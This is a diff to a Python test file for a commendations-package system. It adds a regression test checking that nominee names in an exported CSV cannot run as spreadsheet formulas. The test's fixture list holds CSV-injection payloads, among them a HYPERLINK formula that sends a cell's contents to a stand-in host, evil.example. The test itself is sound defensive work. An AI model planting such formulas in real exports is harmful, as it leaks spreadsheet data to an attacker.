@@ -3,6 +3,7 @@ letter verifies, the manifest's hashes are the files', two builds are the same b
 holding state secrets is left out with the reason, a missing Báo cáo thành tích is reported, and
 only those who forward nominations get the package."""
 
+import csv
 import datetime
 import hashlib
 import io
@@ -28,6 +29,7 @@ from commendations.documents.pdf import docx_to_pdf
 from commendations.documents.signer import Signer
 from commendations.eligibility.models import AttachmentKind
 from commendations.events import AuditEventKind
+from commendations.files.spreadsheet import FORMULA_TRIGGERS
 from commendations.nominations.models import Attachment
 from commendations.signatures.verification import pdf_verify
 from commendations.tokens.services import api_token_issue
@@ -277,3 +279,20 @@ def test_the_api_lists_creates_and_packages_letters(seal, secretary, officer, do
         format="json",
     )
     assert again.status_code == 400
+
+
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?d="&C2,"x")', "@SUM(A1:A2)", "+1+1", "-1+1"]
+
+
+def test_the_list_in_the_package_carries_no_formula(seal, secretary, dossiers):
+    """Issue #16, security: danh-sach.csv opened in a spreadsheet at the Ministry must show the
+    names the units typed, never run them (OWASP CSV injection, as the Excel exports)."""
+    for nomination, name in zip(dossiers.values(), HOSTILE_NAMES, strict=False):
+        nomination.nominee_name = name
+        nomination.save(update_fields=["nominee_name"])
+    archive, _manifest = _unzip(package_bytes(_letter(secretary, dossiers)))
+    rows = list(csv.reader(io.StringIO(archive.read("danh-sach.csv").decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
+    for name in HOSTILE_NAMES[:3]:
+        assert any(cell.startswith(f"'{name}") for cell in cells), name
